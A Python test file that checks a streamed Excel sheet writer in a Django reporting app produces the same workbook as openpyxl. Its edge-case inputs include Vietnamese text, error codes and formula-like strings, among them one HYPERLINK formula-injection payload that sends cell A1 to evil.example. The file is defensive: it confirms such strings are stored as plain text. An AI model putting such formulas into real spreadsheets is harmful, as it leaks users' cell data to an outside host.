"""The Excel copy's rows written as text (reports/sheet_xml.py) against the same rows
written by openpyxl cell by cell, as the copy was written before (issue 12): the same
workbook, sheet by sheet, cell by cell, style by style. Each sheet's XML is compared
canonicalized (C14N: the text UTF-8 here, ASCII with character references from
openpyxl), the rest of the package (styles, workbook, relationships) byte for byte."""

import io
import zipfile
from copy import copy
from datetime import date, datetime
from decimal import Decimal
from xml.etree.ElementTree import canonicalize, fromstring, tostring

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.utils.exceptions import IllegalCharacterError
from openpyxl.xml.constants import SHEET_MAIN_NS

from agreements.models import ClauseStatus
from meetings.models import Directive, Meeting
from reports import spreadsheet
from reports.sheet_xml import FORMULA_STARTS, StreamedSheet, save
from reports.spreadsheet import HEADER, LABEL, VALUE, body, cell_styles
from tests.factories import DirectiveFactory, MeetingFactory
from tests.reports.factories import clause_with, signed_programme
from tests.reports.test_gathering import START, TODAY, year_end
from tests.reports.test_summary import wide_scope

S = ClauseStatus

# Texts at every edge of the rules: formula-like (each start), error codes, blank,
# spaces kept at either end, characters XML escapes, line breaks, a column's width
# exactly and one past it, Vietnamese, one past a cell's longest text.
TEXTS = [
    *(f"{start}1+1" for start in FORMULA_STARTS),
    "=",
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "#N/A",
    "#DIV/0!",
    "",
    " ",
    " đầu",
    "cuối\u00a0",
    "\tcuối\t",
    "a & <b> > c",
    "dòng 1\r\ndòng 2\rdòng 3\nhết",
    "x" * 12,
    "x" * 13,
    "Đã ký, hết thời hạn, chưa tổng kết",
    "ê" * 32770,
]
VALUES = [None, 0, 7, -3, 10**20, 2.5, 0.1, 1 / 3, Decimal("12.50"), True, False]
DATES = [date(2024, 12, 31), date(1900, 1, 1), date(1900, 3, 1), datetime(2024, 5, 6, 7, 8)]


class OpenpyxlSheet:
    """A StreamedSheet's rows written by openpyxl, a WriteOnlyCell a styled value, by the
    rules reports/spreadsheet.py's cell() had before the rows were written as text."""

    def __init__(self, book, title, styles):
        self.sheet = book.create_sheet(str(title))
        self.styles = {name: styles.prototype(name)._style for name in styles.attributes}

    def append(self, values, looks):
        self.sheet.append([self.cell(v, look) for v, look in zip(values, looks, strict=True)])

    def cell(self, value, look):
        styles = self.styles
        style = None if look.fit >= 0 else styles[look.text]
        is_date = hasattr(value, "year")
        if isinstance(value, str) and value in ERROR_CODES:
            # What a user typed stays text: openpyxl alone would store an error value.
            written = WriteOnlyCell(self.sheet, value)
            written.data_type = "s"
            if style is not None or len(value) > look.fit:
                written._style = copy(style or styles["text"])
            return written
        if style is None:
            if isinstance(value, str):
                if len(value) <= look.fit and not value.startswith(FORMULA_STARTS):
                    return value
                style = styles["text"]
            elif is_date:
                style = styles["date"]
            else:
                return value
        elif is_date and style is styles["left"]:
            style = styles["left_date"]
        written = WriteOnlyCell(self.sheet, value)
        written._style = copy(style)
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            written.data_type = "s"
            written.quotePrefix = True
        return written


def openpyxl_save(book, sheets, out):
    book.save(out)


def parts(data):
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def number_formats(styles):
    """(the style sheet but its number formats, {number format id: its code})."""
    sheet = fromstring(styles)
    formats = sheet.find(f"{{{SHEET_MAIN_NS}}}numFmts")
    sheet.remove(formats)
    return tostring(sheet), {f.get("numFmtId"): f.get("formatCode") for f in formats}


def assert_same_package(new, old):
    """The two workbooks' parts: each sheet the same XML, the others the same bytes but
    the creation time and the number formats openpyxl registered for a date before
    the cell's own style replaced its style (yyyy-mm-dd, used by no cell)."""
    new, old = parts(new), parts(old)
    assert list(new) == list(old)
    for name in new:
        if name.startswith("xl/worksheets/"):
            assert canonicalize(new[name]) == canonicalize(old[name]), name
        elif name == "xl/styles.xml":
            (new_sheet, new_formats), (old_sheet, old_formats) = map(
                number_formats, (new[name], old[name])
            )
            assert new_sheet == old_sheet
            assert new_formats.items() <= old_formats.items()
            assert new_formats == {"164": "dd/mm/yyyy"}
        elif name != "docProps/core.xml":
            assert new[name] == old[name], name


def cells(data):
    """Each sheet as openpyxl reads it back: its columns' widths, frozen panes, and each
    cell's value, type and style."""
    book = load_workbook(io.BytesIO(data))
    return {
        sheet.title: (
            {key: dim.width for key, dim in sheet.column_dimensions.items()},
            sheet.freeze_panes,
            [
                [
                    (
                        c.value,
                        c.data_type,
                        c.number_format,
                        copy(c.font),
                        copy(c.fill),
                        copy(c.alignment),
                        c.quotePrefix,
                    )
                    for c in row
                ]
                for row in sheet.iter_rows()
            ],
        )
        for sheet in book.worksheets
    }


def tricky_workbook(sheet_class, save_with):
    """Every tricky value through every look, in two sheets."""
    book = Workbook(write_only=True)
    styles = cell_styles(book)
    book.remove(book["styles"])
    first, second = sheet_class(book, "Một", styles), sheet_class(book, "Hai", styles)
    first.append(["Tiêu đề", "=tiêu đề"], [HEADER, HEADER])
    for value in [*TEXTS, *VALUES, *DATES]:
        first.append([value, value, value], [body(6), body(14), body(40)])
        second.append([value, value, value], [HEADER, LABEL, VALUE])
    with io.BytesIO() as out:
        save_with(book, [first, second], out)
        return out.getvalue()


def test_every_kind_of_value_is_written_as_openpyxl_writes_it():
    new = tricky_workbook(StreamedSheet, save)
    old = tricky_workbook(OpenpyxlSheet, openpyxl_save)
    assert_same_package(new, old)
    got = cells(new)
    assert got == cells(old)
    rows = got["Một"][2]
    assert rows[0][1][:2] == ("=tiêu đề", "s") and rows[0][1][-1] is True
    assert {row[0][1] for row in rows[1:]} >= {"s", "n", "b"}
    # A note that reads as an error code is read back as the text it is, never an error.
    errors = {row[0][0]: row[0][1] for row in rows[1:] if row[0][0] in ERROR_CODES}
    assert errors == {"#N/A": "s", "#DIV/0!": "s"}


@pytest.mark.parametrize("text", ["a\x00b", "a\x1fb", "a\x0bb"])
def test_a_character_a_cell_cannot_hold_is_refused_as_openpyxl_refuses_it(text):
    book = Workbook(write_only=True)
    sheet = StreamedSheet(book, "Một", cell_styles(book))
    with pytest.raises(IllegalCharacterError):
        sheet.append([text], [body(40)])
    with pytest.raises(IllegalCharacterError):
        WriteOnlyCell(book.create_sheet("Hai"), text)


@pytest.mark.django_db
def test_the_report_workbook_is_the_one_openpyxl_wrote_cell_by_cell(monkeypatch):
    district, programme = wide_scope()
    tricky = signed_programme(
        [district.state, district.party], title="=Chương trình & <kiểm tra>", start=START
    )
    for number, text in enumerate(TEXTS[:-1], start=1):
        clause = clause_with(
            tricky,
            number=number,
            text=text or "Nội dung",
            due_date=None if number % 3 else date(2025, 2, 1),
            indicators=[(f"Chỉ tiêu {text}", text[:10], number), ("Tin", "tin", 0)],
            progress=[(date(2024, 5, number), S.AT_RISK, [number * 1.5, 0], text)],
        )
        clause.supporting_bodies.add(district.committee)
    meeting = MeetingFactory(
        organiser=district.state, status=Meeting.Status.HELD, results=" kết quả\r\n", chair=None
    )
    meeting.programmes.add(tricky)
    DirectiveFactory(
        meeting=meeting, programme=tricky, text="+ làm ngay", deadline=date(2025, 3, 1)
    )
    DirectiveFactory(
        meeting=meeting,
        programme=tricky,
        text="Đã xong",
        status=Directive.Status.DONE,
        completed_on=date(2024, 6, 1),
        follow_up_note="#N/A",
    )
    report = year_end(district)  # a draft: no date issued (a blank, styled)

    def workbook():
        with io.BytesIO() as out:
            spreadsheet.report_workbook(report, out, today=TODAY)
            return out.getvalue()

    new = workbook()
    monkeypatch.setattr(spreadsheet, "StreamedSheet", OpenpyxlSheet)
    monkeypatch.setattr(spreadsheet, "save", openpyxl_save)
    old = workbook()
    assert_same_package(new, old)
    got = cells(new)
    assert got == cells(old)
    assert len(got["Nội dung phối hợp"][2]) > 2 * len(TEXTS)
    assert len(got["Tiến độ"][2]) > len(TEXTS) and len(got["Ý kiến chỉ đạo"][2]) >= 3
